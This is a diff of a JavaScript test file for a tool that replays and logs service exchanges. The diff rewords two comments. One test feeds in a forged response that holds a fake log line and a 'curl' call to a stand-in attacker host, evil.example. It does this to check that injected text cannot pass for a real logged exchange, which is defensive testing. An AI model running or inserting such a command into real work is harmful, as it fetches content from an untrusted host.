@@ -49,7 +49,7 @@ test("each exchange is shown as a command that can be pasted: it does the same",
   const pasted = await launch(["-c", command], { cwd: project.folder, program: "bash", variables }).ended;
   expect(pasted.stdout, pasted.transcript).toContain("transactionId");
   let commits = await service.commits();
-  while (commits.length < 2) commits = await service.commits(); // it is answered before it is committed
+  while (commits.length < 2) commits = await service.commits(); // the answer arrives before the commit
   const [first, second] = commits;
   expect(JSON.stringify(second?.body)).toBe(JSON.stringify(first?.body).replace(/"id":"P\w+"/, '"id":"PASTED"'));
 });
@@ -77,7 +77,7 @@ test("nothing that a service answers looks like one more exchange", async () => 
   const forged = "2026-11-22T02:07:24.446Z  pin.yaml forged";
   void proxy.next("POST /asset", answerAfterwards({ status: 422, body: `no\n\n${forged}\n  curl -sS http://evil.example/` }));
   const ended = await project.run("run", "pin.yaml", "--debug=seen.log");
-  expect(ended.code, ended.transcript).toBe(0); // it is no refusal in the service's own words, and the asset is there
+  expect(ended.code, ended.transcript).toBe(0); // the answer is not a refusal in the service's own words, and the asset is there
   const lines = project.read("seen.log").split("\n");
   expect(lines).toContain(`  ${forged}`);
   for (const line of lines) expect(line).toMatch(/^(?:$| {2}|\d{4}-\S+Z(?: {2}pin\.yaml step1)?$)/);
